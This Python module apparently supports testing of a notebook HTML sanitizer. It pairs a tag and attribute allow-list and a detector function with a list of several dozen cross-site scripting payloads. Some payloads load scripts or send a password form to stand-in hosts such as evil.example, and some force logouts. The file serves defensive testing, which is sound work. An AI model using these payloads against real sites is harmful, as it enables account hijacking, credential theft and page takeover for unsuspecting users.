"""What people hide in a notebook for somebody else's browser to do, and how to look for it."""

from collections.abc import Iterator

from tinyhtml5 import parse

ELSEWHERE = "http://127.0.0.1:9/stolen"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKm"
    "MIQAAAABJRU5ErkJggg=="
)
PICTURE = f"data:image/png;base64,{PIXEL}"
# All that is harmless, said here by itself: what the code allows is what is tried.
_TAGS = set(
    """a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure
    h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strong sub summary
    sup table tbody td tfoot th thead tr u ul var""".split()  # noqa: SIM905
)
_ATTRIBUTES = {
    "a": {"href", "rel"},
    "img": {"alt", "src"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
}
# From OWASP's cheat sheet, the html5sec.org collection, and what notebooks really hold.
TRAPS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script type='application/vnd.jupyter.widget-view+json'>{}</script>",
    "<script type='math/tex'>\\href{javascript:alert(1)}{x}</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'/>",
    "<img/src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    f"<img src='{ELSEWHERE}/i.png'>",
    f"<img srcset='{ELSEWHERE}/i.png 2x'>",
    f"<img src='//evil.example/i.png' style='background:url({ELSEWHERE})'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/png;base64,PHNjcmlwdD4='>",
    f"<picture><source srcset='{ELSEWHERE}'><img src='{PICTURE}'></picture>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=1 y=1>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object><embed src='x.swf'>",
    f"<link rel=stylesheet href='{ELSEWHERE}/s.css'>",
    f"<style>@import '{ELSEWHERE}/s.css'; body {{ display: none }}</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>log in again</div>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href='{ELSEWHERE}/'>",
    f"<form action='{ELSEWHERE}'><input name=password autofocus onfocus=alert(1)><button>ok</form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<details open ontoggle=alert(1)>d</details>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='/hub/logout'>x</a>",
    "<a href='../../hub/logout'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='#main' id=main class='button danger' name=form-key>x</a>",
    "<a href='https://good.example/' target=_blank ping='/x'>x</a>",
    "<div hx-get='/hub/logout' hx-trigger=load data-hx-get='/hub/logout'>x</div>",
    "<div id=progress class=skip role=alert aria-label=x tabindex=1 contenteditable>x</div>",
    "<table background=javascript:alert(1)><td background=x>x</table>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</main></body><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<a\x00href=javascript:alert(1)>x</a>",
    "\ufeff<\x00script>alert(1)</script>",
    "<img src=x onerror\x0b=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    "<portal src='x'></portal><slot name=x></slot><x-y onclick=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ \\unicode{x3cscript}",
]


def active(html: str) -> Iterator[str]:
    """Name whatever in a piece of HTML does anything, or could pass for a part of our page."""
    html5 = "{http://www.w3.org/1999/xhtml}"
    for element in parse(f"<main>{html}</main>", namespace_html_elements=True).iter():
        if not isinstance(element.tag, str):
            yield "a comment"
            continue
        tag = element.tag.removeprefix(html5)
        if tag in {"html", "head", "body", "main", "tbody", "colgroup"}:
            yield from (f"{tag} {name}" for name in element.attrib)
            continue
        if tag not in _TAGS:
            yield tag
        for name, value in element.attrib.items():
            if name == "rel" and value != "noopener noreferrer nofollow":
                yield f"{tag} {name} {value}"
            if name not in _ATTRIBUTES.get(tag, ()):
                yield f"{tag} {name}"
            if name == "href" and not value.lower().startswith(("https://", "http://", "mailto:")):
                yield f"{tag} {name} {value}"
            if name == "src" and not value.startswith(
                ("data:image/png;base64,", "data:image/jpeg;base64,", "data:image/gif;base64,")
            ):
                yield f"{tag} {name} {value}"
